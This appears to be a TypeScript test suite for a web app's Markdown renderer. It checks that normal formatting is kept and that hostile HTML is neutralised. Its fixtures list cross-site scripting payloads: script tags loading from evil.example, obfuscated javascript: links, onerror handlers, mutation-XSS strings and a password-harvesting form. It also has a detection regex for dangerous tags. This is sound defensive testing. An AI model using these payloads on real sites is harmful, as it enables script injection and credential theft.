import { House } from '../support/house';
import type { Visitor } from '../support/visitor';

/** What a browser might run, load or be fooled by. */
const HARMFUL =
  /<(script|style|iframe|object|embed|form|input|textarea|button|svg|math|base|meta|link|template|noscript)\b|\son\w+\s*=|style\s*=|\s(id|name|target)\s*=|(javascript|vbscript|data)\s*:/i;

describe('Markdown becomes HTML that is safe to show', () => {
  let house: House;
  let ada: Visitor;
  let number = 0;

  beforeAll(async () => {
    house = await House.open();
    ada = await house.owner();
  });
  afterAll(() => house.close());

  const html = async (body: string): Promise<string> => {
    const page = { slug: `page-${++number}`, title: 'A page', body };
    return (await ada.post('/organizations/:org/pages', page)).expect(201).bodyHtml.trim();
  };

  test.each([
    ['emphasis', '*a* **b** ~~c~~ `d`', '<p><em>a</em> <strong>b</strong> <s>c</s> <code>d</code></p>'],
    ['a heading', '## a', '<h2>a</h2>'],
    ['code and its language', '```js\n"<b>"\n```', '<pre><code class="language-js">"&lt;b&gt;"\n</code></pre>'],
    ['a list', '3. a\n4. b', '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'],
    [
      'a picture',
      '![a](https://a.example/b.png "c")',
      '<p><img src="https://a.example/b.png" alt="a" title="c" /></p>',
    ],
    ['a link of ours', '[a](/b#c)', '<p><a href="/b#c" rel="noopener nofollow">a</a></p>'],
    [
      'a bare address',
      'https://a.example',
      '<p><a href="https://a.example" rel="noopener nofollow">https://a.example</a></p>',
    ],
    ['harmless HTML', 'H<sub>2</sub>O', '<p>H<sub>2</sub>O</p>'],
    [
      'a table',
      '|a|\n|-|\n|b|',
      '<table>\n<thead>\n<tr>\n<th>a</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>b</td>\n</tr>\n</tbody>\n</table>',
    ],
  ])('%s is kept', async (_what, body, expected) => {
    expect(await html(body)).toBe(expected);
  });

  test.each([
    '<script>alert(1)</script>hi',
    '<ScRiPt src="//evil.example/x.js"></sCrIpT >',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '![x](data:image/svg+xml;base64,PHN2Zz4=)',
    '<img src=x onerror=alert(1)>',
    '<img src="x" onerror="alert(1)" style="position:fixed">',
    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<style>@import "https://evil.example"</style>',
    '<p style="background:url(https://evil.example)">x</p>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<base href="https://evil.example"><meta http-equiv="refresh" content="0;url=//evil.example">',
    '<a id="x" name="y" href="https://a.example" target="_blank" onclick="x()">x</a>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
  ])('%s is made harmless', async (body) => {
    expect(await html(body)).not.toMatch(HARMFUL);
  });

  test('every link says that it is not ours, whatever it says itself', async () => {
    expect(await html('<a href="https://a.example" rel="opener follow">a</a>')).toBe(
      '<p><a href="https://a.example" rel="noopener nofollow">a</a></p>',
    );
    expect(await html('<a href="//evil.example">a</a>')).toBe('<p><a rel="noopener nofollow">a</a></p>');
  });
});
